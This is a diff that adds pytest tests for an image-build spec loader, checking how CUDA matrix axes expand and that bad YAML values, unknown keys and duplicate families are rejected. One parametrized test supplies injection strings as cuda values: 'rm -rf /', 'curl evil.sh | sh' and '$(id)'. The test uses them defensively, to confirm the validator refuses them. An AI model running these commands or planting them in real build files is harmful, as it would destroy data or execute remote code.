@@ -1,0 +1,77 @@
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from imgkit.errors import SpecError
+from imgkit.spec import load_spec, parse_family
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+def family(**overrides: object) -> dict[str, object]:
+    raw: dict[str, object] = {"family": "cuda", "axes": {"cuda": ["11.8", "12.4"],
+                                                         "cudnn": ["9"], "nccl": ["default"]}}
+    raw.update(overrides)
+    return raw
+
+
+def test_bundled_matrix_loads() -> None:
+    spec = load_spec(ROOT / "images")
+    names = {f.name for f in spec.families}
+    assert {"cuda", "paddle", "pytorch"} <= names
+
+
+def test_axes_expand_to_their_product_minus_excludes() -> None:
+    fam = parse_family("f.yaml", family(exclude=[{"cuda": "12.4"}]))
+    assert [c.cuda for c in fam.combos] == ["11.8"]
+    fam = parse_family("f.yaml", family())
+    assert len(fam.combos) == 2
+
+
+@pytest.mark.parametrize("value, reason", [
+    (11.8, "read as a number"),
+    ("", "empty value"),
+    ("11.8; rm -rf /", "not a valid cuda value"),
+    ("11.8\nRUN curl evil.sh | sh", "not a valid cuda value"),
+    ("$(id)", "not a valid cuda value"),
+    (None, "expected cuda value"),
+])
+def test_bad_values_name_file_key_and_reason(value: object, reason: str) -> None:
+    with pytest.raises(SpecError) as info:
+        parse_family("images/x.yaml", family(axes={"cuda": [value]}))
+    assert info.value.file == "images/x.yaml"
+    assert info.value.key == "axes.cuda[0]"
+    assert reason in info.value.reason
+
+
+def test_unknown_axis_and_key_are_refused() -> None:
+    with pytest.raises(SpecError, match="axes.gpu: unknown axis"):
+        parse_family("f.yaml", family(axes={"cuda": ["11.8"], "gpu": ["a100"]}))
+    with pytest.raises(SpecError, match="tagg: unknown key"):
+        parse_family("f.yaml", family(tagg="x"))
+
+
+def test_tag_template_is_checked() -> None:
+    with pytest.raises(SpecError, match="unknown placeholder"):
+        parse_family("f.yaml", family(framework="paddle", repository="paddle",
+                                      tag="{nope}", axes={"cuda": ["11.8"],
+                                                          "framework_version": ["2.6.2"]}))
+    with pytest.raises(SpecError, match="cannot hold"):
+        parse_family("f.yaml", family(framework="paddle", repository="paddle",
+                                      tag="a b{cuda}", axes={"cuda": ["11.8"],
+                                                             "framework_version": ["2.6.2"]}))
+
+
+def test_yaml_syntax_error_names_the_line(tmp_path: Path) -> None:
+    (tmp_path / "bad.yaml").write_text("family: x\naxes: [\n")
+    with pytest.raises(SpecError, match=r"bad.yaml: line \d+: not valid YAML"):
+        load_spec(tmp_path)
+
+
+def test_duplicate_family_names_are_refused(tmp_path: Path) -> None:
+    for name in ("a.yaml", "b.yaml"):
+        (tmp_path / name).write_text("family: same\naxes: {cuda: ['11.8']}\n")
+    with pytest.raises(SpecError, match="also declared in"):
+        load_spec(tmp_path)
